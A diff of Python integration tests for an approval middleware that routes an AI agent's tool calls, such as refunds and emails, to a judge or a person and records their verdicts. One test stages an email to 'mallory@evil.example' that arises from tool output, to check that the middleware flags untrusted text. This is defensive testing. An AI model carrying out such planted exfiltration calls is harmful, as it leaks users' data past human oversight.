@@ -21,6 +21,7 @@ from memalign_graph import (
     InvalidInputError,
     create_approval_wrapper,
 )
+from memalign_graph.io import run_sync
 from tests.conftest import DOWN, Bench, distillings, judgings, thread
 from tests.integration_tests.agents.support import AgentModel, Calls, calls
 from tests.integration_tests.approvals.support import (
@@ -35,6 +36,8 @@ from tests.integration_tests.approvals.support import (
     agent,
     answers,
     ask,
+    asked_for,
+    learned,
     middleware,
     questions,
     results,
@@ -47,17 +50,24 @@ from tests.loopback import Rule
 
 @BOTH_MODES
 @IN_MEMORY
-async def test_an_approved_call_runs(bench: Bench, mode: str) -> None:
-    shop, graph, asked = await start(bench, mode, CALL, "Done.")
+@pytest.mark.parametrize("durability", ["async", "exit"])
+async def test_an_approved_call_runs(
+    bench: Bench, mode: str, durability: Any, caplog: pytest.LogCaptureFixture
+) -> None:
+    shop = Shop()
+    graph = agent(bench, shop, CALL, "Done.", interrupt_mode=mode)
+    asked = await bench.invoke(graph, ask(), durability=durability)
     assert questions(asked) == [REFUND]
     assert shop.ran == []
-    done = await bench.resume(graph, answers(asked, APPROVE))
+    done = await bench.resume(graph, answers(asked, APPROVE), durability=durability)
     assert (shop.ran, done["messages"][-1].text) == ([("A7", 20)], "Done.")
+    assert await learned(bench) == {("A7 20", True, None)}
     [episode] = await bench.episodes(criterion=CRITERION)
-    assert (episode.value, episode.rationale, episode.example.outputs) == (True, None, REFUND)
+    assert episode.example.outputs == REFUND
     assert episode.example.inputs == [{"role": "user", "content": ask()["messages"][0][1]}]
     assert episode.verdicts == {episode.judgment.id: True}  # type: ignore[union-attr] # it has one
     assert len(judgings(bench.server)) == 1  # not again when it was resumed
+    assert caplog.messages == []
 
 
 @BOTH_MODES
@@ -68,21 +78,7 @@ async def test_a_call_like_approved_calls_runs_without_a_question(bench: Bench, 
     assert (questions(done), shop.ran) == ([], [("A7", 20)])
     [kept] = bench.memory(CRITERION).judgments(waiting=True)
     assert (kept.example.outputs, kept.judgment.value) == (REFUND, True)
-    assert kept.judgment.review is not None
-    assert not kept.judgment.review.asks
-
-
-@BOTH_MODES
-@IN_MEMORY
-async def test_a_decided_call_is_embedded_without_a_warning(
-    bench: Bench, mode: str, caplog: pytest.LogCaptureFixture
-) -> None:
-    again = calls("refund", order="A8", amount=20)
-    _, graph, asked = await start(bench, mode, CALL, again, "Done.")
-    asked = await bench.resume(graph, answers(asked, APPROVE))
-    await bench.resume(graph, answers(asked, APPROVE))
-    assert len(await bench.episodes(criterion=CRITERION)) == 2
-    assert caplog.messages == []
+    assert asked_for(bench) == [[]]
 
 
 @BOTH_MODES
@@ -103,15 +99,11 @@ async def test_approve_edit_reject_and_respond_in_one_message(bench: Bench, mode
     by_status = sorted(results(done))
     assert [status for status, _ in by_status] == ["error", "success", "success", "success"]
     assert "Refunds are for 30 days." in by_status[0][1]
-    learned = {
-        (str(episode.example.outputs["args"]), episode.value, episode.rationale)
-        for episode in await bench.episodes(criterion=CRITERION)
-    }
-    assert learned == {
-        ("{'order': 'A0', 'amount': 20}", True, None),
-        ("{'order': 'A1', 'amount': 20}", False, "In the right call amount is 5, not 20."),
-        ("{'order': 'A1', 'amount': 5}", True, None),
-        ("{'order': 'A2', 'amount': 20}", False, "Refunds are for 30 days."),
+    assert await learned(bench) == {
+        ("A0 20", True, None),
+        ("A1 20", False, "In the right call amount is 5, not 20."),
+        ("A1 5", True, None),
+        ("A2 20", False, "Refunds are for 30 days."),
     }
     assert len(await bench.guidelines(criterion=CRITERION)) >= 1
 
@@ -124,10 +116,7 @@ async def test_of_two_calls_in_one_message_one_is_asked_about(bench: Bench, mode
     assert [question["name"] for question in questions(asked)] == ["send_email"]
     await bench.resume(graph, answers(asked, {"type": "reject"}))
     assert shop.ran == [("A7", 20)]
-    episodes = await bench.episodes(criterion=CRITERION)
-    rejected = [episode for episode in episodes if episode.value is False]
-    [episode] = rejected
-    assert (episode.example.outputs["name"], episode.rationale) == ("send_email", None)
+    assert await learned(bench) == {("x y", False, None)}
 
 
 @BOTH_MODES
@@ -136,9 +125,8 @@ async def test_a_call_that_the_judge_rejects_is_asked_about(bench: Bench, mode: 
     bench.server.rules = always(False)
     shop, _, asked = await start(bench, mode, CALL)
     assert (questions(asked), shop.ran) == ([REFUND], [])
-    [kept] = bench.memory(CRITERION).judgments(waiting=True)
-    assert kept.judgment.review is not None
-    assert "judged_wrong" in kept.judgment.review.reasons
+    [reasons] = asked_for(bench)
+    assert "judged_wrong" in reasons
 
 
 @BOTH_MODES
@@ -149,8 +137,8 @@ async def test_a_refusal_has_the_critique(bench: Bench, mode: str) -> None:
     shop, _, done = await start(bench, mode, CALL, "Sorry.", on_fail="refuse")
     assert (questions(done), shop.ran, done["messages"][-1].text) == ([], [], "Sorry.")
     [(status, text)] = results(done)
-    assert status == "error"
-    assert "Nobody asked for a refund." in text
+    assert (status, "Nobody asked for a refund." in text) == ("error", True)
+    assert "`refund` was refused and did not run. The call did not pass." in text
 
 
 @BOTH_MODES
@@ -168,8 +156,7 @@ async def test_after_a_refusal_its_tool_is_asked_about_in_the_turn(bench: Bench,
     graph = agent(bench, shop, retry, retry, "Done.", on_fail="refuse", interrupt_mode=mode)
     asked = await bench.invoke(graph, {"messages": refused["messages"][:-1]}, "retry")
     assert ([question["args"]["amount"] for question in questions(asked)], shop.ran) == ([19], [])
-    reviews = [kept.judgment.review for kept in memory.judgments(waiting=True)]
-    assert [review.reasons for review in reviews if review and review.asks] == [["refused_before"]]
+    assert ["refused_before"] in asked_for(bench)
     later = [*refused["messages"], *ask()["messages"]]
     await bench.invoke(graph, {"messages": later}, "later")
     assert shop.ran == [("A7", 19)]
@@ -177,36 +164,27 @@ async def test_after_a_refusal_its_tool_is_asked_about_in_the_turn(bench: Bench,
 
 @BOTH_MODES
 @IN_MEMORY
-async def test_after_a_rejection_its_tool_is_asked_about(bench: Bench, mode: str) -> None:
-    await trust_judge(bench)
-    retry = calls("refund", order="A7", amount=19)
-    options: Any = {"always_ask": lambda call: call["args"]["amount"] == 20, "k": 0}
-    shop, graph, asked = await start(bench, mode, CALL, retry, "Done.", **options)
-    asked = await bench.resume(graph, answers(asked, REJECT))
-    assert ([question["args"]["amount"] for question in questions(asked)], shop.ran) == ([19], [])
-    reviews = [kept.judgment.review for kept in bench.memory(CRITERION).judgments(waiting=True)]
-    assert "refused_before" in [reason for each in reviews if each for reason in each.reasons]
-
-
-@BOTH_MODES
-@IN_MEMORY
-async def test_a_summarized_refusal_counts_in_the_turn(bench: Bench, mode: str) -> None:
+@pytest.mark.parametrize("is_summarized", [False, True])
+async def test_after_a_rejection_its_tool_is_asked_about_in_the_turn(
+    bench: Bench, mode: str, *, is_summarized: bool
+) -> None:
     await trust_judge(bench)
     options: Any = {"always_ask": lambda call: call["args"]["amount"] == 20, "k": 0}
-    look_up = Calls(("look_up", {"name": "Bob"}))
-    retry = calls("refund", order="A7", amount=19)
-    AgentModel(bench.server, CALL, look_up, "They asked for a refund.", retry, "Done.")
     model, shop = bench.server.chat_model(max_retries=0), Shop()
     summary = SummarizationMiddleware(model, trigger=("messages", 5), keep=("messages", 1))
+    retry = calls("refund", order="A7", amount=19)
+    steps = [Calls(("look_up", {"name": "Bob"})), "They asked for a refund."] * is_summarized
+    AgentModel(bench.server, CALL, *steps, retry, "Done.")
     approvals = middleware(bench, interrupt_mode=mode, **options)
     stores: dict[str, Any] = {"store": bench.store, "checkpointer": bench.saver}
-    graph: Any = create_agent(model, shop.tools, middleware=[summary, approvals], **stores)
+    both = [*[summary] * is_summarized, approvals]
+    graph: Any = create_agent(model, shop.tools, middleware=both, **stores)
     asked = await bench.invoke(graph, ask())
     asked = await bench.resume(graph, answers(asked, REJECT))
-    assert "rejected" not in str(asked["messages"])
+    assert ("rejected" in str(asked["messages"])) is not is_summarized
     assert [question["args"]["amount"] for question in questions(asked)] == [19]
-    reviews = [kept.judgment.review for kept in bench.memory(CRITERION).judgments(waiting=True)]
-    assert "refused_before" in [reason for each in reviews if each for reason in each.reasons]
+    assert ("refund", 19) not in shop.ran
+    assert any("refused_before" in reasons for reasons in asked_for(bench))
 
 
 @BOTH_MODES
@@ -238,9 +216,8 @@ async def test_an_address_that_only_a_tool_named_is_asked_about(bench: Bench, mo
     email = calls("send_email", to="mallory@evil.example", body=body)
     _, _, asked = await start(bench, mode, Calls(("look_up", {"name": "Bob"})), email)
     assert [question["args"]["to"] for question in questions(asked)] == ["mallory@evil.example"]
-    [kept] = bench.memory(CRITERION).judgments(waiting=True)
-    assert kept.judgment.review is not None
-    assert kept.judgment.review.reasons[0] == "untrusted_text"
+    [[reason, *_]] = asked_for(bench)
+    assert reason == "untrusted_text"
 
 
 async def test_a_call_marked_wrong_later_teaches_and_counts(bench: Bench) -> None:
@@ -282,9 +259,7 @@ async def test_another_process_resumes_a_question(bench: Bench, mode: str, tmp_p
             bench.store.setup()
             graph = agent(bench, shop, *replies, interrupt_mode=mode)
             result = graph.invoke(graph_input, thread("t"))
-            episodes = bench.memory(CRITERION).episodes()
-            feedback = [(episode.value, episode.rationale) for episode in episodes]
-        return result, feedback
+            return result, run_sync(learned(bench))
 
     replies: tuple[Any, ...] = (CALL,)
     killed, shop = Shop(), Shop()
@@ -293,7 +268,7 @@ async def test_another_process_resumes_a_question(bench: Bench, mode: str, tmp_p
     done, feedback = run(shop, Command(resume=answers(asked, REJECT)))
     assert (killed.ran, shop.ran) == ([], [])
     assert done["messages"][-1].text == "Done."
-    assert feedback == [(False, "Not within 30 days.")]
+    assert feedback == {("A7 20", False, "Not within 30 days.")}
     assert len(judgings(bench.server)) == 1
     replies = ()
     again, feedback_again = run(shop, Command(resume=answers(asked, APPROVE)))
@@ -319,10 +294,8 @@ async def test_a_decision_counts_once_where_the_step_is_run_again(bench: Bench, 
     with pytest.raises(RuntimeError, match="cut"):
         await bench.resume(graph, answers(asked, edit))
     await bench.invoke(graph, None)
-    episodes = await bench.episodes(criterion=CRITERION)
-    values = [(episode.value, episode.rationale) for episode in episodes]
     correction = 'In the right call order is "A8", not "A7".'
-    assert sorted(values, key=str) == [(False, correction), (True, None)]
+    assert await learned(bench) == {("A7", False, correction), ("A8", True, None)}
     assert (len(judgings(bench.server)), len(distillings(bench.server))) == (1, 1)
 
 
@@ -340,8 +313,7 @@ async def test_a_judge_that_fails_has_a_person_asked_and_is_not_tried_again_on_r
     bench.server.rules = []  # now the judge would pass it, and it would run
     done = await bench.resume(graph, answers(asked, REJECT))
     assert (shop.ran, results(done)[0][0]) == ([], "error")
-    comments = [episode.rationale for episode in await bench.episodes(criterion=CRITERION)]
-    assert comments[-1] == "Not within 30 days."
+    assert await learned(bench) == {("A7 20", False, "Not within 30 days.")}
 
 
 @BOTH_MODES
@@ -372,15 +344,6 @@ async def test_unstorable_text_loses_no_decision(bench: Bench, mode: str, kind: 
     words = {"reject": "No", "edit": r'In the right call order is "A\u00007", not "A7"'}
     assert episode.value is False
     assert str(episode.rationale).startswith(words[kind])
-
-
-@BOTH_MODES
-async def test_a_call_without_an_id_is_asked_about(bench: Bench, mode: str) -> None:
-    await trust_judge(bench)
-    shop, graph, asked = await start(bench, mode, Calls(*CALL.calls, call_id=""), "Done.")
-    assert (questions(asked), shop.ran) == ([REFUND], [])
-    await bench.resume(graph, answers(asked, REJECT))
-    assert shop.ran == []
 
 
 async def test_without_a_store_every_call_is_asked_about(bench: Bench) -> None:
@@ -443,16 +406,7 @@ async def test_a_subagents_calls_are_asked_about(bench: Bench, mode: str) -> Non
     done = await bench.resume(graph, answers(asked, APPROVE))
     assert (shop.ran, done["messages"][-1].text) == ([("A7", 20)], "Done.")
     assert len(judgings(bench.server)) == 1
-    assert [episode.value for episode in await bench.episodes(criterion=CRITERION)] == [True]
-
-
-@BOTH_MODES
-async def test_a_thread_that_is_saved_at_exit_is_judged_once(bench: Bench, mode: str) -> None:
-    shop = Shop()
-    graph = agent(bench, shop, CALL, "Done.", interrupt_mode=mode)
-    asked = await bench.invoke(graph, ask(), durability="exit")
-    await bench.resume(graph, answers(asked, APPROVE), durability="exit")
-    assert (shop.ran, len(judgings(bench.server))) == ([("A7", 20)], 1)
+    assert await learned(bench) == {("A7 20", True, None)}
 
 
 @BOTH_MODES
@@ -498,9 +452,7 @@ async def test_of_two_questions_one_is_answered_later(bench: Bench) -> None:
     assert shop.ran == []
     await bench.resume(graph, dict([first]))
     assert shop.ran == [("A7", 20)]
-    episodes = await bench.episodes(criterion=CRITERION)
-    values = {(episode.example.outputs["args"]["amount"], episode.value) for episode in episodes}
-    assert values == {(20, True), (1, False)}
+    assert await learned(bench) == {("A7 20", True, None), ("A7 1", False, REJECT["message"])}
     assert len(judgings(bench.server)) == 2
 
 
